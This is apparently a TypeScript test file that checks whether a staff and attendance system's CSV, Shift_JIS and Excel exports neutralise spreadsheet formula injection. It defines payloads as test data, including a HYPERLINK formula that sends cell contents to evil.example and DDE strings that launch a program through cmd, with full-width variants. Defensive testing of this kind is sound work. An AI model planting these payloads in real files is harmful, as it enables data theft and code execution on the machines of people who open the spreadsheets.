import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import type { FastifyInstance } from "fastify";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { insertReader } from "../../src/access/reader-repository";
import { writeBookXlsx } from "../../src/attendance-reports/book-xlsx";
import type { MonthReport } from "../../src/attendance-reports/month-report";
import { createMonthReport } from "../../src/attendance-reports/month-report.fixture";
import { defaultPayrollLayout, writePayrollFile } from "../../src/attendance-reports/payroll-file";
import { buildApp } from "../../src/http/app";
import { insertDepartment } from "../../src/org/department-repository";
import { createStaff } from "../../src/org/staff-use-cases";
import { unescapeFormula } from "../../src/staff-import/escape-formula";
import { type Call, okJson, signInWithRoles } from "../access-api";
import { describeEachDatabase } from "../databases";
import { ingestAsReader } from "../ingest-as-reader";

// Staff numbers may only hold letters, digits and hyphens, and may still start with one.
const hostileStaffNumber = "-2-3";
// A staff number or figure that is a plain number is not a formula: it must reach payroll as written.
const plainStaffNumber = "-120";
const plainFigures = { staffNumber: plainStaffNumber, departmentCode: "+3", otherDepartmentCode: "-0.5" };

/** Text that a spreadsheet would run as a formula or DDE call if a cell began with it. */
const payloads = {
  equals: '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
  plus: "+1+cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  tab: "\t=1+1+cmd|' /C calc'!A0",
  carriageReturn: "\r=1+1+cmd|' /C calc'!A0",
  // Japanese Excel reads the full-width forms (typed with the IME on) as the ASCII ones.
  fullWidthEquals: '＝HYPERLINK("http://evil.example/?"&A1,"詳細")',
  fullWidthPlus: "＋1＋cmd|' /C calc'!A0",
  fullWidthMinus: "－2＋3＋cmd|' /C calc'!A0",
  fullWidthAt: "＠SUM(1＋1)*cmd|' /C calc'!A0",
} as const;
const payloadList: string[] = Object.values(payloads);

const formulaStart = /^[=+\-@\t\r＝＋－＠]/;
// Figures the files carry on purpose (a signed number is not a formula to escape).
const plainNumber = /^[+-]?\d+(?:\.\d+)?$/;

function cellsOf(table: readonly (readonly string[])[]): string[] {
  return table.flat();
}

/** Every cell is inert, and each payload that went in comes out with the quote that keeps it text. */
function expectNeutralised(cells: readonly string[], expected: readonly string[]) {
  const live = cells.filter((cell) => formulaStart.test(cell) && !plainNumber.test(cell));
  expect(live).toEqual([]);
  // XML turns a stored CR into LF, so an Excel cell is compared with its line ends unified.
  const unified = cells.map((cell) => cell.replaceAll("\r", "\n"));
  for (const payload of expected) {
    expect(
      unified.some((cell) => cell.startsWith(`'${payload}`.replaceAll("\r", "\n"))),
      `${JSON.stringify(payload)} is missing`,
    ).toBe(true);
  }
}

/** Each plain number went out as written: no quote in front, so payroll reads the same value. */
function expectPlainNumbersKept(cells: readonly string[], figures: readonly string[]) {
  for (const figure of figures) {
    expect(cells, `${figure} is missing`).toContain(figure);
    expect(cells).not.toContain(`'${figure}`);
  }
}

function readCsv(body: Buffer | string): string[][] {
  const rows: unknown = parse(body, { bom: true, relax_column_count: true });
  if (!Array.isArray(rows)) throw new Error("not a CSV table");
  return rows.map((row: unknown) => (Array.isArray(row) ? row.map(String) : []));
}

async function readXlsxCells(body: Buffer): Promise<string[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(new Uint8Array(body).buffer);
  const cells: string[] = [];
  for (const sheet of workbook.worksheets) {
    sheet.eachRow((row) => {
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula) throw new Error(`formula cell at ${cell.address}`);
        cells.push(cell.text);
      });
    });
  }
  return cells;
}

describeEachDatabase("exports neutralise formula-like text", (context) => {
  let app: FastifyInstance;
  let admin: Call;

  beforeAll(async () => {
    const { deps } = context();
    deps.clock.set("2026-04-10T00:00:00.000Z");
    app = await buildApp(deps);
    admin = await signInWithRoles(app, deps, "export-admin", ["staff", "hr", "securityAdmin", "auditor"]);
    // Names reach the database from the staff import too, so they go in as stored, not through the form.
    const department = await insertDepartment(deps.db, {
      code: "8800",
      name: payloads.equals,
      kind: "department",
      parentId: null,
      validFrom: "2020-04-01",
      validTo: null,
    });
    const staffIds: number[] = [];
    for (const [index, payload] of payloadList.entries()) {
      const staff = await createStaff(deps, "test", {
        staffNumber: `880${index}`,
        familyName: payload,
        givenName: payloads.at,
        familyNameKana: "テスト",
        givenNameKana: "テスト",
        employmentType: "regular",
        startDate: "2020-04-01",
        endDate: null,
        email: null,
        phone: payloads.minus,
        departmentId: department.id,
        positionId: null,
      });
      staffIds.push(staff.id);
    }
    await createStaff(deps, "test", {
      staffNumber: plainStaffNumber,
      familyName: "数字",
      givenName: "始まり",
      familyNameKana: "スウジ",
      givenNameKana: "ハジマリ",
      employmentType: "regular",
      startDate: "2020-04-01",
      endDate: null,
      email: null,
      phone: plainFigures.departmentCode,
      departmentId: department.id,
      positionId: null,
    });
    const area = okJson(await admin("POST", "/api/access/areas", { name: payloads.plus })).id;
    const inner = okJson(await admin("POST", "/api/access/areas", { name: payloads.at, parentId: area })).id;
    const door = okJson(
      await admin("POST", "/api/access/doors", { name: payloads.equals, fromAreaId: area, toAreaId: inner }),
    ).id;
    const reader = await insertReader(deps.db, {
      name: payloads.minus,
      kind: "door",
      doorId: door,
      side: "entry",
    });
    const events = staffIds.map((staffId, index) => ({
      eventId: `escape-${index}`,
      occurredAt: `2026-04-02T0${index}:00:00.000Z`,
      kind: "decision",
      credentialKey: `uid:0E5C${index}`,
      holderId: `staff:${staffId}`,
      granted: true,
      reason: "granted",
      assurance: "tap",
    }));
    okJson(await ingestAsReader(deps, reader.id, events));
  });
  afterAll(() => app.close());

  it("escapes staff and department names in the staff CSV and keeps plain numbers as written", async () => {
    const response = await admin("GET", "/api/staff-export?format=csv");
    expect(response.statusCode).toBe(200);
    const cells = cellsOf(readCsv(response.rawPayload));
    expectNeutralised(cells, payloadList);
    expectPlainNumbersKept(cells, [plainStaffNumber, plainFigures.departmentCode]);
    // The import reads each cell back to what was stored.
    const imported = cells.map(unescapeFormula);
    for (const value of [...payloadList, plainStaffNumber]) expect(imported).toContain(value);
  });

  it("escapes the full-width forms in the Shift_JIS staff CSV too", async () => {
    const response = await admin("GET", "/api/staff-export?format=csv&encoding=shift_jis");
    expect(response.statusCode).toBe(200);
    // The full-width ＝ ＋ － ＠ are JIS X 0208, so CP932 carries them unchanged.
    const cells = cellsOf(readCsv(new TextDecoder("shift_jis").decode(response.rawPayload)));
    expectNeutralised(cells, payloadList);
    expectPlainNumbersKept(cells, [plainStaffNumber, plainFigures.departmentCode]);
  });

  it("escapes staff and department names in the staff Excel file and keeps plain numbers", async () => {
    const response = await admin("GET", "/api/staff-export?format=xlsx");
    expect(response.statusCode).toBe(200);
    const cells = await readXlsxCells(response.rawPayload);
    expectNeutralised(cells, payloadList);
    expectPlainNumbersKept(cells, [plainStaffNumber, plainFigures.departmentCode]);
  });

  it("escapes area, door, reader and holder names in the access log CSV", async () => {
    const response = await admin("GET", "/api/access/log/export?month=2026-04&format=csv");
    expect(response.statusCode).toBe(200);
    expectNeutralised(cellsOf(readCsv(response.rawPayload)), payloadList);
  });

  it("escapes area, door, reader and holder names in the access log Excel file", async () => {
    const response = await admin("GET", "/api/access/log/export?month=2026-04&format=xlsx");
    expect(response.statusCode).toBe(200);
    expectNeutralised(await readXlsxCells(response.rawPayload), payloadList);
  });
});

/** The October fixture with every name, department and reason replaced by a payload. */
function hostileReport(): MonthReport {
  const base = createMonthReport({
    "1001": {
      name: payloads.equals,
      departmentName: payloads.plus,
      employmentType: payloads.at,
      staffNumber: plainFigures.staffNumber,
      departmentCode: plainFigures.departmentCode,
    },
    "1002": {
      name: payloads.tab,
      departmentName: payloads.carriageReturn,
      employmentType: payloads.fullWidthMinus,
      staffNumber: hostileStaffNumber,
      departmentCode: plainFigures.otherDepartmentCode,
    },
  });
  return {
    ...base,
    department: { ...base.department, name: payloads.equals },
    people: base.people.map((line) => ({
      ...line,
      month: {
        ...line.month,
        entries: line.month.entries.map((entry) => ({ ...entry, reason: payloads.minus })),
      },
    })),
  };
}

describe("month outputs neutralise formula-like text", () => {
  it("escapes names and a hostile payroll layout header in the payroll CSV, in both encodings", () => {
    const layout = {
      ...defaultPayrollLayout,
      columns: [
        { header: payloads.at, field: "name" as const },
        { header: payloads.plus, field: "departmentName" as const },
        { header: payloads.fullWidthEquals, field: "staffNumber" as const },
        { header: payloads.fullWidthPlus, field: "departmentCode" as const },
        { header: payloads.fullWidthAt, field: "employmentType" as const },
        ...defaultPayrollLayout.columns,
      ],
    };
    const figures = Object.values(plainFigures);
    const utf8 = writePayrollFile(hostileReport(), { ...layout, encoding: "utf8" });
    // Reasons are not part of the payroll file; every other payload is.
    const inPayroll = [...payloadList.filter((payload) => payload !== payloads.minus), hostileStaffNumber];
    const utf8Cells = cellsOf(readCsv(utf8.body));
    expectNeutralised(utf8Cells, inPayroll);
    expectPlainNumbersKept(utf8Cells, figures);
    const shiftJis = writePayrollFile(hostileReport(), { ...layout, encoding: "shift_jis" });
    // Every payload is ASCII, kanji or a JIS X 0208 full-width form, so the Shift_JIS bytes hold the same cells.
    const shiftJisCells = cellsOf(readCsv(new TextDecoder("shift_jis").decode(shiftJis.body)));
    expectNeutralised(shiftJisCells, inPayroll);
    expectPlainNumbersKept(shiftJisCells, figures);
  });

  it.each(["attendance", "overtimeOrders", "leave"] as const)(
    "escapes names and reasons in the %s book's Excel file",
    async (book) => {
      const cells = await readXlsxCells(await writeBookXlsx(book, hostileReport()));
      // Only the fixture's first person takes leave, so the leave book names only them.
      const expected =
        book === "leave" ? [payloads.equals, payloads.minus] : [payloads.equals, hostileStaffNumber];
      expectNeutralised(cells, expected);
      // The first person's staff number is a plain number in every book.
      expectPlainNumbersKept(cells, [plainStaffNumber]);
    },
  );

  it("escapes the reasons written into the overtime order book", async () => {
    const cells = await readXlsxCells(await writeBookXlsx("overtimeOrders", hostileReport()));
    expectNeutralised(cells, [payloads.minus]);
  });
});
